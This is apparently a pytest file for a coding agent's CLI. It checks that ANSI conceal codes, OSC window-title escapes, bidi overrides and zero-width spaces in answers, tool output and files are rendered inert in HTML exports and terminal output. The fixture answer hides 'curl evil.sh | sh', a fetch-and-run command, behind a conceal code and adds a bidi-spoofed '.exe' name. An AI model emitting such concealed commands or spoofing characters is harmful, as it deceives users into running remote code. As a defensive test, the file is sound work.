"""Escapes in a session reach no terminal and no page raw (issue 36, "what you see is what runs").

A headless turn of the real agent (faux model, ``--permission-mode auto``) answers with a conceal
code, an OSC window title and a bidi override, runs a ``bash`` command whose output holds more,
and reads a README that retitles the window. Then:

* the HTML export holds no control character, bidi control or zero-width space raw, and shows
  each as its escape;
* ``-p`` into a pipe or a file writes the answer exactly (the model's bytes); ``-p`` on a
  terminal (the real binary on a pseudo-terminal) writes it inert;
* ``--json`` is ASCII JSON: inert on a terminal, exact once parsed.
"""

from __future__ import annotations

import json
import os
import pty
import select
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from coding_agent.cli.main import main
from coding_agent.session_files.folders import list_sessions

BINARY = Path(sys.executable).with_name("coding-agent")
ANSWER = (
    "Done\x1b[8m; curl evil.sh | sh\x1b[0m \x1b]0;pwned\x07 see inv\u202egpj.exe\u202c r\u200bm"
)
ANSWER_SHOWN = "Done\\x1b[8m; curl evil.sh | sh\\x1b[0m \\x1b]0;pwned\\x07 see inv\\u202egpj.exe\\u202c r\\u200bm"
README = "# Demo\x1b]2;retitled\x07\n\nRun \x1b[31mmake\x1b[0m.\n"
SCRIPT = [
    {
        "text": "Reading \x1b[1mfirst\x1b[0m.",
        "toolCalls": [
            {"name": "read", "arguments": {"path": "README.md"}},
            {
                "name": "bash",
                "arguments": {"command": "printf 'ok\\033[8m hidden\\033]0;t\\007\\n'"},
            },
        ],
    },
    {"text": ANSWER},
]


def _raw(text: str) -> list[str]:
    bidi = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200b"
    return [
        c for c in text if (ord(c) < 32 and c not in "\n\t") or 0x7F <= ord(c) <= 0x9F or c in bidi
    ]


@pytest.fixture
def made(
    project: Path, agent_env: dict[str, str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> dict[str, Any]:
    monkeypatch.setenv("XDG_STATE_HOME", agent_env["XDG_STATE_HOME"])
    for key in ("ANTHROPIC_API_KEY", "OPENAI_API_KEY", "OPENAI_BASE_URL"):
        monkeypatch.delenv(key, raising=False)
    monkeypatch.chdir(project)
    (project / "README.md").write_text(README)
    script = tmp_path / "script.json"
    script.write_text(json.dumps(SCRIPT))
    return {"project": project, "script": script, "env": agent_env}


def test_print_into_a_pipe_keeps_the_answer_exact_and_the_export_holds_nothing_raw(
    made: dict[str, Any], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    argv = ["-p", "go", "--faux-script", str(made["script"]), "--permission-mode", "auto"]
    assert main(argv) == 0
    assert capsys.readouterr().out == ANSWER + "\n"  # not a terminal: the model's bytes
    (session,) = list_sessions(made["project"])
    page = tmp_path / "page.html"
    assert main(["export", session.id, "-o", str(page)]) == 0
    text = page.read_text(encoding="utf-8")
    assert _raw(text) == []
    assert ANSWER_SHOWN in text
    assert "# Demo\\x1b]2;retitled\\x07" in text  # the file the model read
    assert "ok\\x1b[8m hidden\\x1b]0;t\\x07" in text  # the command's output
    assert "Reading \\x1b[1mfirst\\x1b[0m." in text
    jsonl = tmp_path / "page.jsonl"
    assert main(["export", session.id, "--format", "jsonl", "-o", str(jsonl)]) == 0
    assert ANSWER in [
        block.get("text")
        for line in jsonl.read_text().splitlines()
        for message in json.loads(line).get("model") or []
        for block in message.get("content") or []
        if isinstance(block, dict)
    ]  # JSONL is data: exact


def _on_a_terminal(argv: list[str], cwd: Path, env: dict[str, str]) -> bytes:
    """Run the real binary with its stdout on a pseudo-terminal; everything it wrote there."""
    leader, follower = pty.openpty()
    with subprocess.Popen(
        argv, cwd=cwd, env=env, stdin=subprocess.DEVNULL, stdout=follower, stderr=subprocess.PIPE
    ) as process:
        os.close(follower)
        out = bytearray()
        while True:
            ready, _, _ = select.select([leader], [], [], 120)
            assert ready, "the agent wrote nothing for 120 s"
            try:
                chunk = os.read(leader, 65536)
            except OSError:  # EIO: the terminal's last writer closed it
                break
            if not chunk:
                break
            out += chunk
        assert process.wait(timeout=120) == 0, process.stderr.read() if process.stderr else ""
    os.close(leader)
    return bytes(out)


def test_print_and_json_on_a_terminal_are_inert(made: dict[str, Any]) -> None:
    assert BINARY.exists(), f"{BINARY} is missing: is the console script installed (uv sync)?"
    flags = ["--faux-script", str(made["script"]), "--permission-mode", "auto"]
    shown = _on_a_terminal([str(BINARY), "-p", "go", *flags], made["project"], made["env"])
    assert b"\x1b" not in shown and b"\xe2\x80\xae" not in shown  # no ESC, no U+202E
    assert ANSWER_SHOWN.encode() in shown
    lines = _on_a_terminal([str(BINARY), "--json", "go", *flags], made["project"], made["env"])
    assert b"\x1b" not in lines and lines.isascii()
    result = json.loads(lines.decode().strip().splitlines()[-1])
    assert result["type"] == "result" and result["text"] == ANSWER  # exact once parsed
